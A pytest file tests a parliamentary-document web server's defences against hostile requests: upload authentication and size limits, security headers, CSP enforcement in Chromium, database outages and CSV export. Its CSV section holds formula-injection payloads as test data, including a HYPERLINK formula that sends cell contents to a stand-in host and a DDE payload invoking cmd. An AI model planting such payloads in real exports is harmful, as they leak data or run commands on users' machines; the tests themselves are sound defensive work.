"""The web server under hostile requests and database faults, on a real uvicorn server on loopback.

- Uploads: no token means a 401 before a byte of the body is read (counted by an ASGI wrapper around the
  whole application: every body byte the server's code pulled from uvicorn), also without a body; a body over
  the limit is a 413 from its Content-Length, or cut off at the limit while it streams in (chunked).
- Headers: the Content-Security-Policy, nosniff, frame refusal and Referrer-Policy on pages, API, static files
  and errors; and in headless Chromium no page (htmx at work included, and /api/docs with Swagger UI) breaks
  the policy, while an injected inline script is blocked (so the policy is really enforced).
- HEAD wherever GET works: every GET route of the application, read from the application itself.
- Database away: SQLite removed, replaced or locked, PostgreSQL stopped and restarted (a cluster of the
  test's own, stopped and started with pg_ctl): 503 with Retry-After while away, and by itself 200 again.
- CSV: cells a spreadsheet would run as a formula come out with a leading quote, in the API's, the web
  page's and the CLI's CSV.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import select
import shutil
import socket
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest

from kamerspoor.csvsafe import safe_cell
from kamerspoor.ingest import put_record
from kamerspoor.store import open_store
from kamerspoor.web import create_app
from kamerspoor.web.server import free_port, running

ROOT = Path(__file__).resolve().parent.parent
TOKEN = "hostile-token-5c1e"
MB = 1024 * 1024
PG_URL = os.environ.get("KAMERSPOOR_TEST_PG_URL")

SECURITY = {"x-content-type-options": "nosniff", "x-frame-options": "DENY", "referrer-policy": "same-origin"}


# -- a server whose body reads are counted -------------------------------------------------------------------

class BodyCounter:
    """ASGI wrapper around the whole application: counts the request body bytes it pulled from the server."""

    def __init__(self, app):
        self.app = app
        self.read = 0

    async def __call__(self, scope, receive, send):
        async def counted():
            message = await receive()
            if message["type"] == "http.request":
                self.read += len(message.get("body", b""))
            return message

        await self.app(scope, counted, send)


@dataclass
class Counted:
    url: str
    counter: BodyCounter
    db: str


@pytest.fixture(scope="module")
def counted(example_db: str, tmp_path_factory) -> Iterator[Counted]:
    """A server with the upload token and a 1 MB body limit over a copy of the examples, its reads counted."""
    db = str(tmp_path_factory.mktemp("hostile") / "store.db")
    shutil.copyfile(example_db, db)
    counter = BodyCounter(create_app(db, token=TOKEN, max_body=MB))
    with running(counter) as url:
        yield Counted(url, counter, db)


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    body: bytes
    sent: int  # bytes of body the client got out before the answer came (or the server closed)


def _read_answer(sock: socket.socket, timeout: float = 30) -> tuple[int, dict[str, str], bytes]:
    sock.setblocking(True)
    sock.settimeout(timeout)
    data = b""
    try:
        while b"\r\n\r\n" not in data:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
        head, _, body = data.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        headers = {k.strip().lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:])}
        want = int(headers.get("content-length", "0"))
        while len(body) < want:
            chunk = sock.recv(65536)
            if not chunk:
                break
            body += chunk
    except ConnectionResetError:
        head, _, body = data.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        headers = {k.strip().lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:])}
    assert lines[0].startswith("HTTP/1.1 "), f"no answer: {data[:200]!r}"
    return int(lines[0].split()[1]), headers, body


def post_streaming(url: str, path: str, headers: dict[str, str], chunks: Iterable[bytes],
                   length: int | None) -> Answer:
    """POST a body from ``chunks`` over a raw socket, as fast as the server takes it, stopping as soon as an
    answer arrives; ``length``: the Content-Length to announce, or None for chunked transfer."""
    u = urlsplit(url)
    sock = socket.create_connection((u.hostname, u.port), timeout=30)
    try:
        head = [f"POST {path} HTTP/1.1", f"Host: {u.hostname}:{u.port}", *(f"{k}: {v}" for k, v in headers.items()),
                f"Content-Length: {length}" if length is not None else "Transfer-Encoding: chunked"]
        sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode())
        sock.setblocking(False)
        sent = 0
        answered = False
        deadline = time.monotonic() + 60
        frames = chunks if length is not None else (b"%x\r\n%s\r\n" % (len(c), c) for c in chunks)
        for frame in (*frames, *(() if length is not None else (b"0\r\n\r\n",))):
            view = memoryview(frame)
            while view and not answered:
                assert time.monotonic() < deadline, "the server neither read nor answered"
                readable, writable, _ = select.select([sock], [sock], [], 5)
                if readable:
                    answered = True
                elif writable:
                    try:
                        n = sock.send(view)
                    except (BrokenPipeError, ConnectionResetError):
                        answered = True
                        break
                    sent += n
                    view = view[n:]
            if answered:
                break
        status, resp_headers, body = _read_answer(sock)
        return Answer(status, resp_headers, body, sent)
    finally:
        sock.close()


def multipart(total: int, boundary: str = "kamerspoorGrens") -> tuple[dict[str, str], list[bytes] | Iterator[bytes]]:
    """A multipart/form-data upload of a text file, ``total`` bytes in all, made as it is sent."""
    pre = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"groot.txt\"\r\n"
           "Content-Type: text/plain\r\n\r\n").encode()
    post = f"\r\n--{boundary}--\r\n".encode()
    filler = total - len(pre) - len(post)

    def chunks() -> Iterator[bytes]:
        yield pre
        block = b"motie " * 10923  # 64 KiB less 2 bytes
        left = filler
        while left > 0:
            piece = block[:left]
            left -= len(piece)
            yield piece
        yield post

    return {"Content-Type": f"multipart/form-data; boundary={boundary}"}, chunks()


def one_line_error(body: bytes) -> str:
    text = body.decode()
    assert "\n" not in text.strip()
    return json.loads(text)["error"]


# -- uploads: authentication before the body, and the body limit ----------------------------------------------

@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
@pytest.mark.parametrize("auth", [None, "Bearer wrong-token", "Basic aGFjazpoYWNr"], ids=["none", "wrong", "basic"])
def test_an_upload_without_the_token_is_refused_before_its_body_is_read(counted, chunked, auth):
    total = 64 * MB
    headers, chunks = multipart(total)
    if auth:
        headers["Authorization"] = auth
    before = counted.counter.read
    a = post_streaming(counted.url, "/api/documents", headers, chunks, None if chunked else total)
    assert a.status == 401
    assert "token" in one_line_error(a.body) and a.headers["www-authenticate"] == "Bearer"
    assert a.headers["connection"] == "close"  # the rest of the body is not read either
    assert counted.counter.read - before == 0  # not a byte of the 64 MB reached the application
    assert a.sent < 16 * MB  # only what fits in the sockets' buffers left the client


def test_an_upload_with_no_token_and_no_body_is_a_401_not_a_400(counted):
    r = httpx.post(f"{counted.url}/api/documents")
    assert r.status_code == 401 and "token" in r.json()["error"]


def test_a_body_announced_over_the_limit_is_a_413_before_it_is_read(counted):
    total = 8 * MB
    headers, chunks = multipart(total)
    headers["Authorization"] = f"Bearer {TOKEN}"
    before = counted.counter.read
    a = post_streaming(counted.url, "/api/documents", headers, chunks, total)
    assert a.status == 413
    assert "1 MB" in one_line_error(a.body) and a.headers["connection"] == "close"
    assert counted.counter.read - before == 0


def test_a_streamed_body_over_the_limit_is_cut_off_at_the_limit(counted):
    total = 8 * MB
    headers, chunks = multipart(total)
    headers["Authorization"] = f"Bearer {TOKEN}"
    before = counted.counter.read
    a = post_streaming(counted.url, "/api/documents", headers, chunks, None)
    assert a.status == 413 and "limit" in one_line_error(a.body)
    read = counted.counter.read - before
    assert MB < read <= MB + 512 * 1024  # read up to the limit (and the piece that crossed it), no further
    assert httpx.get(f"{counted.url}/api/documents", params={"limit": 100}).json()["total"] == 11  # nothing stored


# A fictional letter (dossier 99 906 does not exist)
LETTER = """Tweede Kamer der Staten-Generaal 2
Vergaderjaar 2025–2026

99 906 Dijkbeheer

Nr. 3 BRIEF VAN DE MINISTER VAN INFRASTRUCTUUR EN WATERSTAAT

Aan de Voorzitter van de Tweede Kamer der Staten-Generaal

Den Haag, 9 maart 2026

Met deze brief informeer ik uw Kamer over het onderhoud van de rivierdijken.

De Minister van Infrastructuur en Waterstaat,
Pietersen
"""


def test_an_upload_under_the_limit_with_the_token_is_stored(example_db_copy):
    with running(create_app(example_db_copy, token=TOKEN, max_body=64 * 1024)) as url:
        r = httpx.post(f"{url}/api/documents", files={"file": ("brief.txt", LETTER.encode(), "text/plain")},
                       headers={"Authorization": f"Bearer {TOKEN}"}, timeout=60)
        assert r.status_code == 201, r.text
        assert httpx.get(f"{url}/api/documents/{r.json()['id']}").status_code == 200
        no_file = httpx.post(f"{url}/api/documents", headers={"Authorization": f"Bearer {TOKEN}"})
        assert no_file.status_code == 400 and "file" in no_file.json()["error"]  # with the token: the body's turn


def test_a_bad_content_length_is_a_400(counted):
    u = urlsplit(counted.url)
    with socket.create_connection((u.hostname, u.port), timeout=10) as sock:
        sock.sendall(b"POST /api/documents HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + TOKEN.encode()
                     + b"\r\nContent-Length: 12abc\r\n\r\n")
        status, _, _ = _read_answer(sock)
    assert status == 400  # uvicorn's parser or the limit: never a read of an unknown length


def test_serve_takes_the_body_limit_from_its_option_and_refuses_a_bad_one(example_db_copy):
    bad = subprocess.run([sys.executable, "-m", "kamerspoor.cli", "serve", "--db", example_db_copy, "--max-body",
                          "lots", "--no-open"], capture_output=True, text=True, timeout=60)
    assert bad.returncode == 2 and bad.stderr.count("\n") == 1 and "--max-body" in bad.stderr
    port = free_port()
    env = {**os.environ, "KAMERSPOOR_TOKEN": TOKEN, "KAMERSPOOR_MAX_BODY": "1G"}
    proc = subprocess.Popen([sys.executable, "-m", "kamerspoor.cli", "serve", "--db", example_db_copy, "--port",
                             str(port), "--no-open", "--max-body", "64K"], stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, env=env)
    try:
        url = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 30
        while True:
            try:
                httpx.get(f"{url}/api/stats", timeout=2)
                break
            except httpx.TransportError:
                assert time.monotonic() < deadline, "the server did not start"
                time.sleep(0.1)
        r = httpx.post(f"{url}/api/documents", content=b"x" * 100_000, timeout=10,
                       headers={"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/octet-stream"})
        assert r.status_code == 413 and "64 KB" in r.json()["error"]  # the option wins over the environment
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def test_the_body_limit_comes_from_the_environment_for_worker_processes(monkeypatch, example_db):
    from kamerspoor.web.app import app_from_env
    from kamerspoor.web.guard import parse_size

    monkeypatch.setenv("KAMERSPOOR_DB", example_db)
    monkeypatch.setenv("KAMERSPOOR_MAX_BODY", "2K")
    assert app_from_env().state.max_body == 2048
    assert parse_size("21M") == 21 * MB and parse_size("512k") == 512 * 1024 and parse_size("100") == 100
    for bad in ("", "-1", "ten", "1T", "0"):
        with pytest.raises(ValueError):
            parse_size(bad)


# -- security headers ----------------------------------------------------------------------------------------

def assert_security_headers(r: httpx.Response) -> None:
    for k, v in SECURITY.items():
        assert r.headers.get(k) == v, (str(r.url), k, r.headers.get(k))
    csp = r.headers.get("content-security-policy", "")
    assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp and "default-src 'none'" in csp
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp


def test_every_kind_of_response_carries_the_security_headers(counted):
    with httpx.Client(base_url=counted.url, timeout=20) as c:
        for path in ("/", "/zoeken?q=kabinet", "/document/kst-99901-14", "/toezeggingen.csv", "/api/stats",
                     "/api/documents?format=csv", "/static/style.css", "/static/htmx.min.js", "/api/openapi.json",
                     "/api/docs", "/api/docs/swagger-ui.css"):
            r = c.get(path)
            assert r.status_code == 200, path
            assert_security_headers(r)
        for r, status in ((c.get("/document/kst-1-1"), 404), (c.get("/api/documents/kst-1-1"), 404),
                          (c.get("/api/search", params={"q": ""}), 400), (c.get("/static/nope.js"), 404),
                          (c.post("/api/documents"), 401), (c.head("/api/stats"), 200),
                          (c.post("/api/documents", content=b"x" * (2 * MB),
                                  headers={"Authorization": f"Bearer {TOKEN}"}), 413)):
            assert r.status_code == status, (str(r.url), r.status_code)
            assert_security_headers(r)


def test_the_api_docs_come_from_this_server_not_a_cdn(counted):
    with httpx.Client(base_url=counted.url, timeout=20) as c:
        page = c.get("/api/docs").text
        assert "swagger-ui-bundle.js" in page and "<script>" not in page
        assert not re.search(r'(src|href)="(https?:)?//', page)  # nothing from elsewhere
        bundle = c.get("/api/docs/swagger-ui-bundle.js")
        assert bundle.status_code == 200 and "SwaggerUIBundle" in bundle.text[:2000]
        assert "Apache License" in c.get("/api/docs/LICENSE").text
        assert c.get("/api/docs/oauth2-redirect.html").status_code == 404  # only the files the page needs


# -- the Content-Security-Policy in Chromium -------------------------------------------------------------------

CSP_LISTENER = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
    e => window.__csp.push(e.violatedDirective + ' ' + (e.blockedURI || 'inline') + ' ' + e.sourceFile));
"""


def _pages(theme: str) -> list[str]:
    return ["/", "/zoeken", "/zoeken?q=kabinet", "/zoeken?q=kabinet&dossier=99902", "/documenten",
            "/documenten?kind=motie", "/document/kst-99901-14", "/document/kst-99902-20?q=motie", "/moties",
            "/motie/99901-8", "/motie/99902-8", "/dossiers", "/dossier/99901", "/dossier/99902",
            "/toezeggingen", "/toezeggingen?status=alle", "/themas", f"/thema/{theme}", "/document/kst-1-1",
            "/zoeken?q=%22open", "/volgen", "/volgen?soort=motie&doel=99902-8", "/moties?q=fonds&uitslag=aangenomen"]


def test_no_page_breaks_the_content_security_policy_in_chromium(chromium, counted):
    expect = pytest.importorskip("playwright.sync_api").expect
    from kamerspoor.web import labels

    context = chromium.new_context(base_url=counted.url)
    context.add_init_script(CSP_LISTENER)
    page = context.new_page()
    console: list[str] = []
    page.on("console", lambda m: console.append(m.text) if "Content Security Policy" in m.text else None)
    try:
        for path in _pages(labels.theme_ids()[0]):
            page.goto(path)
            page.wait_for_load_state("networkidle")
            assert page.evaluate("window.__csp") == [], path
        # htmx at work under the policy: the search and the commitment filter replace only their results
        page.goto("/zoeken")
        page.get_by_label("Zoek in de documenten").fill("kabinet")
        page.get_by_role("button", name="Zoeken").click()
        expect(page.locator("#h-hits")).to_contain_text("gevonden")
        page.locator(".facet a", has_text="99902").first.click()
        expect(page.locator(".active-filters")).to_contain_text("99902")
        assert page.evaluate("window.__csp") == []
        page.goto("/toezeggingen?status=alle")
        page.get_by_label("Dossier").select_option("99901")
        expect(page.locator("table.commitment-table tbody tr")).to_have_count(2)
        assert page.evaluate("window.__csp") == []
        # Swagger UI, from this server, lists every operation under the policy
        page.goto("/api/docs")
        expect(page.locator(".opblock").first).to_be_visible(timeout=20000)
        assert page.locator(".opblock").count() >= 14
        assert page.evaluate("window.__csp") == []
        assert console == []
        # the policy is enforced: an inline script put into the page does not run, and is reported
        page.goto("/")
        page.evaluate("() => { const s = document.createElement('script'); s.textContent = 'window.__ran = 1';"
                      " document.body.appendChild(s); }")
        page.wait_for_timeout(200)
        assert page.evaluate("window.__ran") is None
        assert any(v.startswith("script-src") for v in page.evaluate("window.__csp"))
    finally:
        context.close()


# -- HEAD wherever GET works ------------------------------------------------------------------------------------

def head_raw(url: str, path: str) -> tuple[int, dict[str, str], bytes]:
    """HEAD over a raw socket, reading until the server closes: everything after the headers is body."""
    u = urlsplit(url)
    with socket.create_connection((u.hostname, u.port), timeout=20) as sock:
        sock.sendall(f"HEAD {path} HTTP/1.1\r\nHost: {u.hostname}\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    head, _, rest = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = {k.strip().lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:])}
    return int(lines[0].split()[1]), headers, rest


def get_routes(app) -> list[str]:
    """Every path template the application answers GET on (pages, API, docs, static files)."""
    from starlette.routing import Mount

    out = []
    for route in app.routes:
        # newer FastAPI keeps an included router as one route that lists its routes on demand
        inner = list(route.effective_route_contexts()) if hasattr(route, "effective_route_contexts") else [route]
        for r in inner:
            if isinstance(r, Mount):
                out.append(r.path + "/{file}")
            elif "GET" in (getattr(r, "methods", None) or ()):
                out.append(r.path)
    return out


def test_head_answers_wherever_get_does(counted, example_db):
    from kamerspoor.web import labels

    watch = httpx.post(f"{counted.url}/api/watches", json={"kind": "dossier", "target": "99901"},
                       headers={"Authorization": f"Bearer {TOKEN}"}, timeout=20).json()  # for its feed
    samples = {"doc_id": "kst-99901-14", "motion_id": "99901-8", "dossier": "99901", "theme_id": labels.theme_ids()[0],
               "name": "swagger-ui.css", "file": "htmx.min.js", "key": "99901-8", "watch_id": str(watch["id"]),
               "ministry": "bz"}
    routes = get_routes(create_app(example_db))
    spec_paths = {p for p, ops in httpx.get(f"{counted.url}/api/openapi.json").json()["paths"].items() if "get" in ops}
    assert spec_paths <= set(routes) and len(routes) > len(spec_paths)  # the spec's GET routes and the pages
    for template in routes:
        path = re.sub(r"\{(\w+)(:\w+)?\}", lambda m: samples[m.group(1)], template)
        path += {"/api/search": "?q=kabinet", "/zoeken": "?q=kabinet", "/feeds/zoeken.atom": "?q=kabinet",
                 "/feeds/partij.atom": "?partij=VVD"}.get(template, "")  # required or useful
        get = httpx.get(counted.url + path, timeout=20)
        assert get.status_code == 200, path
        status, headers, rest = head_raw(counted.url, path)
        assert status == 200, (path, status)
        assert rest == b"", path  # no body
        assert headers["content-type"] == get.headers["content-type"], path
        if "content-length" in get.headers:
            assert headers["content-length"] == get.headers["content-length"], path
        assert headers["x-content-type-options"] == "nosniff"
    assert head_raw(counted.url, "/document/kst-1-1")[0] == 404  # HEAD of a missing page is a 404 like its GET


# -- the database away: 503 and recovery -------------------------------------------------------------------------

def assert_away(url: str, path_api: str = "/api/stats", path_page: str = "/documenten") -> None:
    api = httpx.get(url + path_api, timeout=30)
    assert api.status_code == 503, api.text[:300]
    assert api.headers["retry-after"].isdigit() and api.headers["content-type"].startswith("application/json")
    assert "\n" not in api.text and "database" in api.json()["error"]
    page = httpx.get(url + path_page, timeout=30)
    assert page.status_code == 503 and page.headers["content-type"].startswith("text/html")
    assert "Database niet bereikbaar" in page.text and page.headers["retry-after"].isdigit()
    assert_security_headers(page)


def test_a_removed_sqlite_file_is_a_503_until_it_is_back(example_db_copy, tmp_path):
    db = example_db_copy
    backup = str(tmp_path / "backup.db")
    with running(create_app(db)) as url:
        assert httpx.get(url + "/api/stats").json()["documents"] == 11
        src, dst = sqlite3.connect(db), sqlite3.connect(backup)
        src.backup(dst)
        src.close()
        dst.close()
        for suffix in ("", "-wal", "-shm"):
            if os.path.exists(db + suffix):
                os.remove(db + suffix)
        assert_away(url, "/api/documents?limit=7")
        assert not os.path.exists(db)  # a removed store is not re-created empty while serving
        shutil.copyfile(backup, db)  # back, as a new file
        assert httpx.get(url + "/api/stats").json()["documents"] == 11
        assert httpx.get(url + "/documenten").status_code == 200


SHM_LOCKER = """
import fcntl, os, sys
fd = os.open(sys.argv[1] + "-shm", os.O_RDWR)
fcntl.lockf(fd, fcntl.LOCK_EX | fcntl.LOCK_NB, 8, 120)  # the WAL index's write, checkpoint and read locks
print("locked", flush=True)
sys.stdin.readline()
"""


@pytest.mark.slow
def test_a_locked_sqlite_file_is_a_503_and_the_server_goes_on_when_it_is_released(example_db_copy):
    with running(create_app(example_db_copy)) as url:
        assert httpx.get(url + "/api/stats").status_code == 200
        locker = subprocess.Popen([sys.executable, "-c", SHM_LOCKER, example_db_copy], stdin=subprocess.PIPE,
                                  stdout=subprocess.PIPE, text=True)
        try:
            assert locker.stdout.readline().strip() == "locked"
            r = httpx.get(url + "/api/documents?limit=3", timeout=60)  # not asked before: not in the cache
            assert r.status_code == 503 and r.headers["retry-after"].isdigit(), r.text
        finally:
            locker.stdin.write("\n")
            locker.stdin.flush()
            locker.wait(timeout=10)
        assert httpx.get(url + "/api/documents?limit=3").json()["total"] == 11


@pytest.mark.slow
def test_postgresql_stopped_is_a_503_and_restarted_is_served_again(own_postgres):
    from kamerspoor.ingest import ingest

    store = open_store(own_postgres.url)
    try:
        ingest(store, [ROOT / "examples", ROOT / "tests" / "fixtures" / "store"], jobs=1)
    finally:
        store.close()
    with running(create_app(own_postgres.url)) as url, httpx.Client(base_url=url, timeout=30) as c:
        for _ in range(12):  # several worker threads, each with its connection
            assert c.get("/api/stats").json()["documents"] == 11
            assert c.get("/documenten").status_code == 200
        # restarted between two requests: the kept connections are dead, the next request is served anyway
        own_postgres.stop()
        own_postgres.start()
        for _ in range(12):
            r = c.get("/api/stats")
            assert r.status_code == 200, r.text
        # stopped: 503 while it is down, on the API and the pages, with every thread asked
        own_postgres.stop()
        for _ in range(4):
            assert_away(url)
        own_postgres.start()
        deadline = time.monotonic() + 20
        while (r := c.get("/api/stats")).status_code != 200:
            assert r.status_code == 503 and time.monotonic() < deadline, r.text
            time.sleep(0.2)
        for _ in range(12):
            assert c.get("/api/stats").json()["documents"] == 11
            assert c.get("/motie/99901-8").status_code == 200


# -- CSV: formulas neutralised -------------------------------------------------------------------------------

HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?x="&A1,"Kamerbrief")'
HOSTILE = {"schema": "analysis/1", "text": "+31 bellen: het kabinet zal uw Kamer voor 1 mei 2026 informeren.",
           "document": {"id": "kst-99905-1", "dossier": "99905", "number": 1, "kind": "brief",
                        "title": HOSTILE_TITLE, "date": "2026-02-01", "submitters": ["@SUM(1+1)*cmd|' /C calc'!A0"]},
           "paragraphs": [{"start": 0, "end": 63, "section": None}],
           "commitments": [{"text": "-2+3 het kabinet zal uw Kamer informeren", "actor": "\tminister",
                            "due": "2026-05-01", "start": 0}]}


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_no_formula(rows: list[dict]) -> None:
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.fixture
def hostile_db(example_db_copy: str) -> str:
    store = open_store(example_db_copy)
    try:
        put_record(store, HOSTILE)
    finally:
        store.close()
    return example_db_copy


def test_csv_cells_that_would_run_as_formulas_are_quoted_in_the_api_and_pages(hostile_db):
    with running(create_app(hostile_db)) as url, httpx.Client(base_url=url, timeout=20) as c:
        docs = csv_rows(c.get("/api/documents", params={"format": "csv", "dossier": "99905"}).text)
        assert [d["title"] for d in docs] == ["'" + HOSTILE_TITLE]
        assert docs[0]["submitters"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        for path in ("/api/commitments?format=csv&dossier=99905", "/toezeggingen.csv?status=alle&dossier=99905"):
            rows = csv_rows(c.get(path).text)
            assert [r["text"] for r in rows] == ["'-2+3 het kabinet zal uw Kamer informeren"], path
            assert_no_formula(rows)
        for path in ("/api/documents?format=csv&limit=100", "/api/motions?format=csv", "/api/answers?format=csv",
                     "/api/dossiers?format=csv", "/api/themes?format=csv"):
            assert_no_formula(csv_rows(c.get(path).text))
        # JSON is data, not a spreadsheet: unchanged
        assert c.get("/api/documents/kst-99905-1").json()["document"]["title"] == HOSTILE_TITLE


def test_csv_cells_that_would_run_as_formulas_are_quoted_in_the_cli(hostile_db):
    from click.testing import CliRunner

    from kamerspoor.cli import main

    out = CliRunner().invoke(main, ["export", "--db", hostile_db, "--format", "csv"], catch_exceptions=False)
    rows = [r for r in csv_rows(out.stdout) if r["id"] == "kst-99905-1"]
    assert rows[0]["title"] == "'" + HOSTILE_TITLE
    assert_no_formula(csv_rows(out.stdout))
    out = CliRunner().invoke(main, ["commitments", "--db", hostile_db, "--dossier", "99905", "--format", "csv"],
                             catch_exceptions=False)
    rows = csv_rows(out.stdout)
    assert rows and rows[0]["text"].startswith("'-2+3")
    assert_no_formula(rows)


@pytest.mark.parametrize("cell, out", [("=1+1", "'=1+1"), ("+31 6", "'+31 6"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
                                       ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("kabinet", "kabinet"), ("", ""),
                                       ("a=1", "a=1"), (-3, -3), (2.5, 2.5), (None, None), ("'=1", "'=1")])
def test_safe_cell_quotes_formula_starts_and_leaves_the_rest(cell, out):
    assert safe_cell(cell) == out
